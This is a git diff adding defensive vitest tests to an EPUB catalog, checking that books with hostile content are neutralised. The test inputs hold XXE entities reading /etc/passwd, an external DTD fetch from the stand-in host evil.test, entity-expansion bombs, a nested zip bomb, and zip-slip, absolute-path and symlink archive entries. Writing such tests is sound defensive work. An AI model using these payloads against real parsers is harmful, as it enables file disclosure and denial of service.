@@ -1,7 +1,8 @@
 import { buffer, text } from 'node:stream/consumers'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { startCatalog, type TestCatalog } from '../../support/catalog.ts'
-import { type EpubParts, makeEpub } from '../../support/epub.ts'
+import { container, type EpubParts, makeEpub, page } from '../../support/epub.ts'
+import { makeZip } from '../../support/zip.ts'
 
 let catalog: TestCatalog
 beforeAll(async () => {
@@ -72,11 +73,48 @@ describe('what reaches readers of a hostile book', () => {
   })
 })
 
+test('a document type counts for nothing in any of a book’s documents', async () => {
+  const type = (root: string) =>
+    `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "laugh"><!ENTITY b "&a;&a;&a;"><!ENTITY % p SYSTEM "http://evil.test/p.dtd"> %p;]>`
+  const withType = (source: string, root: string) => source.replace(/^(?:<\?xml.*?\?>)?/, type(root))
+  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;&b;</text></svg>'
+  const smil =
+    '<smil xmlns="http://www.w3.org/ns/SMIL" version="3.0"><body><par><text src="one.xhtml"/><audio src="&xxe;.mp3"/></par></body></smil>'
+  const { published } = await publish({
+    metadata: '<dc:title>A &xxe;&b; book</dc:title><dc:language>en</dc:language>',
+    nav: withType(
+      page('<nav epub:type="toc"><ol><li><a href="one.xhtml">&xxe;&b;</a></li></ol></nav>'),
+      'html',
+    ),
+    resources: {
+      'i.svg': { mediaType: 'image/svg+xml', data: withType(svg, 'svg') },
+      'o.smil': { mediaType: 'application/smil+xml', data: withType(smil, 'smil') },
+    },
+    entries: [{ name: 'META-INF/container.xml', data: withType(container, 'container') }],
+    packageType: type('package'),
+  })
+  expect(JSON.parse(published['manifest.json'] ?? '')).toMatchObject({
+    metadata: { title: 'A &xxe;&b; book' },
+    toc: [{ title: '&xxe;&b;' }],
+  })
+  expect(published['EPUB/i.svg']).toContain('<text>&amp;xxe;&amp;b;</text>')
+  expect(Object.values(published).join('')).not.toMatch(/root:|laugh|evil\.test/)
+})
+
+test('an archive in the archive is neither opened nor handed on', async () => {
+  const bomb = makeZip([{ name: 'z', data: Buffer.alloc(24 * 1024 * 1024) }])
+  const { published } = await publish({
+    resources: { 'inner.zip': { mediaType: 'application/zip', data: bomb } },
+  })
+  expect(Object.keys(published)).not.toContain('EPUB/inner.zip')
+})
+
 describe('a hostile archive is refused before it is inflated', () => {
   const zeros = Buffer.alloc(24 * 1024 * 1024)
   const noise = Buffer.from(Array.from({ length: 20_000 }, (_, at) => (at * 7919 + (at >> 3)) % 256))
   test.each([
     ['zip slip', [{ name: '../../../../tmp/slipped.xhtml', data: 'x' }], 'ARCHIVE_UNSAFE_PATH'],
+    ['an absolute path', [{ name: '/etc/passwd', data: 'x' }], 'ARCHIVE_UNSAFE_PATH'],
     ['a path of another system', [{ name: 'EPUB\\..\\..\\x', data: 'x' }], 'ARCHIVE_UNSAFE_PATH'],
     ['a symbolic link', [{ name: 'EPUB/l', data: '/etc/passwd', symlink: true }], 'ARCHIVE_SYMLINK'],
     ['a bomb of one entry', [{ name: 'EPUB/z', data: zeros }], 'ARCHIVE_BOMB'],
